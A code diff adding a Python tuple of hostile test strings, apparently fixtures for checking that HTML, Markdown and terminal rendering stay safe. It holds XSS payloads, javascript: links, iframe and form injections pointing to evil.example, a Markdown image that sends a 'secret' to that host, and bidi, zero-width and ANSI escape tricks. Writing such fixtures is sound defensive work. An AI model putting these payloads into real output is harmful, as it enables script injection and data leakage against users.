@@ -1,0 +1,26 @@
+"""Strings that try to become something else than text: in HTML, in Markdown, in a terminal."""
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    '"><a href="javascript:alert(1)">点我</a>',
+    "'onmouseover='alert(1)",
+    "</mark></p></div><iframe src=//evil.example>",
+    "<style>*{display:none}</style>",
+    '<form action="http://evil.example"><input name=q>',
+    '<div style="position:fixed;inset:0">盖住</div>',
+    "![图](http://evil.example/?q=秘密)",
+    "[点我](javascript:alert(1))",
+    "[参考][1]\n\n[1]: http://evil.example",
+    "<http://evil.example>",
+    "http://evil.example/auto",
+    "$$\\href{javascript:alert(1)}{x}$$",
+    "`代码` **粗** ~~删~~ # 题 | 表 |",
+    "&lt;b&gt; &amp; &#60;script&#62;",
+    "<!--><img src=x onerror=alert(1)-->",
+    "\u202e反写\u202c \u200b零宽 \x1b[31m终端\x07",
+    "一行\n\n<b>另一段</b>\n\n    缩进的代码",
+    "{{7*7}} ${7*7} <%= 7 %>",
+    "[1] [2] [999]",
+)
